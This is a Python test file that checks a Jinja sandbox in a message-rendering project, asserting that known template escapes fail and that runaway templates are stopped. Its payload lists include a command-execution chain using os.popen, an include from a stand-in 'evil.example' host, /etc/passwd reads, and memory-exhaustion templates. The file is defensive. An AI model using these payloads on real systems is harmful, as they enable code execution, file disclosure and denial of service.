"""The sandbox: known ways out of Jinja lead nowhere, and what grows or goes on for ever ends within its bound."""

from __future__ import annotations

import json
import resource
from contextlib import suppress
from typing import Any

import pytest

from perennial.publishing.trial import MEMORY
from perennial.publishing.trying import run_child
from perennial.rendering.templates import Templates
from perennial.rendering.values import Fields, Items, SkipMessage, rendering_for
from tests.emails.samples import shop

NAMES: dict[str, Any] = {
    "customer": Fields("customer", {"first_name": "Mara", "orders_count": 3}),
    "items": Items([Fields("item", {"title": "Pot"})] * 20),
}
# Ways out that are known from write-ups of template injections.
ESCAPES = """
{{ ''.__class__ }}
{{ ''.__class__.__mro__[1].__subclasses__() }}
{{ ''['__class__'] }}
{{ ''|attr('__class__') }}
{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}
{{ customer.__init__.__globals__ }}
{{ customer['__init__'] }}
{{ customer.get('first_name') }}
{{ customer.items() }}
{{ customer.update({'a': 1}) }}
{{ customer.__class__.__base__.__subclasses__() }}
{{ items.append(1) }}
{{ items.sort() }}
{{ self._TemplateReference__context }}
{{ self.__init__.__globals__ }}
{{ skip.__globals__ }}
{{ skip.__code__ }}
{{ product.__closure__ }}
{{ loop.__class__ }}
{% for x in items %}{{ loop.__class__.__init__.__globals__ }}{% endfor %}
{% for x in items %}{{ loop._iterable }}{% endfor %}
{% macro m() %}{% endmacro %}{{ m.__init__ }}
{% macro m() %}{% endmacro %}{{ m._func }}
{{ cycler.__init__.__globals__.os.popen('id').read() }}
{{ joiner.__init__.__globals__ }}
{{ namespace.__init__.__globals__ }}
{{ lipsum.__globals__.os }}
{{ config }}
{{ request.application.__globals__ }}
{{ url_for.__globals__ }}
{{ range(10) }}
{{ dict(a=1) }}
{{ '{0.__class__}'.format(customer) }}
{{ '%s'|format(customer) }}
{{ '%s' % customer }}
{{ ''.join(['a']) }}
{{ ['a']|map(attribute='__class__')|list }}
{{ items|map('attr', '__class__')|list }}
{{ customer|pprint }}
{{ customer|tojson }}
{{ customer|xmlattr }}
{{ '<b>'|safe }}
{{ 'a'|string|list }}
{{ ()|select.__globals__ }}
{% include 'https://evil.example/x' %}
{% include '/etc/passwd' %}
{% import 'os' as os %}{{ os }}
{% extends '../../etc/passwd' %}
{% autoescape false %}{{ '<b>' }}{% endautoescape %}
{% do customer.update({}) %}
{{ (customer.first_name).__add__('x') }}
{{ customer.first_name.upper() }}
{{ customer.first_name.encode('utf-8') }}
{{ 1.0.__class__ }}
{{ (1).real }}
{{ caller.__globals__ }}
{{ varargs }}
{{ environment }}
{{ context }}
{{ get_flashed_messages.__globals__ }}
""".strip().splitlines()
GROWING = [
    "{{ 'a'|center(2000000000) }}",
    "{{ 'a'|ljust(2000000000) }}",
    "{{ 'a' * 1000000000 }}",
    "{{ 1000000000 * 'a' }}",
    "{{ [1] * 1000000000 }}",
    "{{ 'a' + 'a' }}",
    "{{ 10 ** 10 ** 10 }}",
    "{{ '%1000000000d' % 5 }}",
    "{{ '{:1000000000}'.format('a') }}",
    "{{ 'a'|indent(1000000000) }}",
    "{{ 'a'|replace('a', 'a' * 100000000) }}",
    "{{ range(1000000000)|list }}",
    "{% set x = 'aaaaaaaaaa' %}" + "{% set x = x ~ x %}" * 40 + "{{ x }}",
    "{% for a in items %}" * 9 + "x" + "{% endfor %}" * 9,
    "{% for a in items %}" * 9 + "{% endfor %}" * 9,
    "{% macro m() %}{{ m() }}{{ m() }}{% endmacro %}{{ m() }}",
    "{% for a in items recursive %}{{ loop(items) }}{% endfor %}",
    "{% set ns = 'x' %}{% for a in items %}{% for b in items %}{% for c in items %}"
    + "y" * 5000
    + "{% endfor %}" * 3,
    "{{ " + "(" * 150 + "1" + ")" * 150 + " }}" * 1,
    "{% include 'a.text' %}{% include 'a.text' %}",
]


def rendered(source: str) -> str:
    with rendering_for("en", "UTC"):
        return Templates({"a": {"text": source, "html": source}}).render("a", "text", NAMES)


@pytest.mark.parametrize("source", ESCAPES)
def test_known_escapes_lead_nowhere(source: str) -> None:
    """Each skips the message with a reason; nothing of Python, of files or of the environment is printed."""
    with pytest.raises(SkipMessage) as raised:
        rendered(source)
    assert raised.value.reason.partition(":")[0] in {"template_error", "missing_field"}
    assert "<class" not in raised.value.reason


@pytest.mark.parametrize("source", GROWING)
def test_what_grows_ends_within_its_bound(source: str) -> None:
    """With a named reason, and without the process growing by more than a few megabytes."""
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with suppress(SkipMessage):
        assert len(rendered(source)) < 1000
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 32 * 1024  # kilobytes


def task(source: str) -> dict[str, Any]:
    return {
        "template": source, "channel": "sms", "kind": "full", "own": True, "marketing": False,
        "sample": {"items": [{"title": "x"}] * 20},
    }  # fmt: skip


def test_a_child_that_takes_too_much_is_ended_and_the_others_are_tried() -> None:
    """Whatever a way around the sandbox may do, it does it to a process with little memory and little time."""
    greedy = "{% for a in items %}" * 3 + "x" * 250_000 + "{% endfor %}" * 3
    templates = {"greedy": {"sms": greedy}, "good": {"sms": "Hello"}, "long": {"sms": GROWING[13]}}
    settings = json.loads(json.dumps(shop().settings, default=vars_of))
    job = {"settings": settings, "templates": templates, "tasks": [task(each) for each in templates]}
    answers = list(run_child(job))
    ends = {answer["ends"]: answer["findings"] for answer in answers if "ends" in answer}
    assert [bool(ends[number]) for number in range(3)] == [True, False, True]
    assert {ends[0][0]["skip"], ends[2][0]["skip"]} <= {
        "template_too_large", "template_works_too_long", "template_needs_too_much_memory",
    }  # fmt: skip
    assert MEMORY <= 512 * 1024 * 1024


def vars_of(value: Any) -> Any:
    return {name: getattr(value, name) for name in value.__slots__}
